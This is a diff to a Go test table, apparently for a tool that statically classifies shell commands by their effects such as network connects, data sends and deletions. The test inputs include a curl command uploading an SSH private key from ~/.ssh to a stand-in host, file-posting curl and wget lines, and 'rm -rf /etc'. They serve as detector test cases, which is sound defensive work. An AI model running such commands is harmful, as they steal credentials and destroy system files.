@@ -100,6 +100,12 @@ var shellTable = []shellCase{
 		{Kind: Unknown, Detail: &Detail{Reason: `scp: source not known statically: "$F"`}}}, unk: shUnkYes},
 	{cmd: `aws s3 cp "$F" s3://drop/x`, want: []Effect{{Kind: Connect, Detail: &Detail{Host: "drop"}},
 		{Kind: Unknown, Detail: &Detail{Reason: `aws: source not known statically: "$F"`}}}, unk: shUnkYes},
+	// a file to send whose name is not known (its content is sent, not the name's command output)
+	{cmd: `curl -T "$(ls ~/.ssh/id_* | head -1)" https://x.example/u`, want: []Effect{{Kind: Unknown, Detail: &Detail{Reason: `curl: source not known statically: "$(ls ~/.ssh/id_*|head -1)"`}}}, unk: shUnkYes,
+		not: []Effect{{Kind: Send, Detail: &Detail{Source: "output"}}}},
+	{cmd: `curl -F "f=@$F" https://x.example/u`, want: []Effect{{Kind: Unknown, Detail: &Detail{Reason: `curl: source not known statically: "f=@$F"`}}}, unk: shUnkYes},
+	{cmd: `wget --post-file="$F" https://x.example/`, want: []Effect{{Kind: Unknown, Detail: &Detail{Reason: `wget: source not known statically: "$F"`}}}, unk: shUnkYes},
+	{cmd: `curl -d "$(date)" https://x.example/`, want: []Effect{{Kind: Send, Detail: &Detail{Source: "output"}}}},
 	{cmd: `rsync -a "h.example:$D/" ./x`, want: []Effect{{Kind: Unknown, Detail: &Detail{Reason: `rsync: copy from a source not known statically: "h.example:$D/"`}}}, unk: shUnkYes},
 	{cmd: `if true; then rm -rf /etc; fi`, want: []Effect{eDelR("/etc")}},
 	{cmd: `false || rm -rf /etc`, want: []Effect{eDelR("/etc")}},
